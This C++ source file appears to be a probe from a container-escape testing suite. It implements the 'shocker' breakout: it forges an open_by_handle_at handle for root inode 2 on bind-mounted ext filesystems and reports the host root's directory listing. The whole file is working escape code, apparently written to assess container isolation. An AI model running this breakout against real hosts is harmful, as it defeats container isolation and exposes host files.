// fs.open_by_handle — the "shocker" primitive: open_by_handle_at resolves a
// file handle on a filesystem regardless of the caller's root or mount view
// (needs CAP_DAC_READ_SEARCH). First a handle of "/" itself; then, for every
// bind mount of a subtree of a host ext* filesystem, a forged handle of that
// filesystem's root inode (2), which lists the host filesystem's real root.
#include "../probe.hpp"
#include "../support/net.hpp"
#include "../support/sys.hpp"

#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstring>
#include <string>
#include <vector>

namespace support = bottle::escape::probe::support;

namespace {

// file_handle ends in a flexible array: keep it in an aligned byte buffer.
struct handle_buf {
    alignas(file_handle) unsigned char raw[sizeof(file_handle) + MAX_HANDLE_SZ]{};
    file_handle* get() { return reinterpret_cast<file_handle*>(raw); }
    unsigned char* bytes() { return raw + sizeof(file_handle); }
};

std::string listing(int dirfd) {
    std::string out;
    if (DIR* d = fdopendir(dup(dirfd))) {
        while (const dirent* e = readdir(d))
            if (out.size() < 2048) out += std::string(e->d_name) + " ";
        closedir(d);
    }
    return out;
}

void try_open(int mount_fd, handle_buf& h, const std::string& label, bottle::escape::probe::report& rep) {
    const int fd = open_by_handle_at(mount_fd, h.get(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) {
        rep.attempt(label, support::errno_name(errno));
        return;
    }
    const std::string ls = listing(fd);
    close(fd);
    rep.attempt(label, "opened; directory has " + std::to_string(ls.size()) + " bytes of names", true);
    rep.observe(label + ": " + ls);
}

}  // namespace

BOTTLE_PROBE(fs_open_by_handle, "fs.open_by_handle",
             "name_to_handle_at + open_by_handle_at on / and forged root-inode handles on bind-mounted host filesystems",
             bottle::escape::probe::scoring::self | bottle::escape::probe::scoring::token) {
    {
        handle_buf h{};
        h.get()->handle_bytes = MAX_HANDLE_SZ;
        int mount_id = 0;
        if (name_to_handle_at(AT_FDCWD, "/", h.get(), &mount_id, 0) != 0) {
            rep.attempt("name_to_handle_at(\"/\")", support::errno_name(errno));
        } else {
            rep.attempt("name_to_handle_at(\"/\")", "handle type " + std::to_string(h.get()->handle_type) + ", " +
                                                        std::to_string(h.get()->handle_bytes) + " bytes");
            const int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            try_open(mfd, h, "open_by_handle_at(mount fd of /, handle of /)", rep);
            if (mfd >= 0) close(mfd);
        }
    }

    // Shocker: a mount whose root is a subtree of an ext* filesystem; forge
    // the handle of inode 2 (generation 0), the filesystem's real root.
    const auto mi = support::read_file("/proc/self/mountinfo", 256 * 1024);
    int forged = 0;
    for (const auto& m : support::parse_mountinfo(mi.data)) {
        if (m.root == "/" || m.fstype.rfind("ext", 0) != 0 || forged >= 4) continue;
        handle_buf h{};
        h.get()->handle_bytes = MAX_HANDLE_SZ;
        int mount_id = 0;
        if (name_to_handle_at(AT_FDCWD, m.mount_point.c_str(), h.get(), &mount_id, 0) != 0) {
            rep.attempt("name_to_handle_at(" + m.mount_point + ")", support::errno_name(errno));
            continue;
        }
        if (h.get()->handle_type != 1 || h.get()->handle_bytes != 8) continue;  // FILEID_INO32_GEN only
        ++forged;
        const std::uint32_t ino_gen[2] = {2, 0};
        std::memcpy(h.bytes(), ino_gen, sizeof ino_gen);
        const int mfd = open(m.mount_point.c_str(), O_RDONLY | O_CLOEXEC | O_PATH);
        try_open(mfd, h, "open_by_handle_at(" + m.mount_point + " [" + m.root + "], forged root inode 2)", rep);
        if (mfd >= 0) close(mfd);
    }
    if (forged == 0) rep.attempt("find a bind mount of an ext* subtree to forge a handle on", "none visible");
}
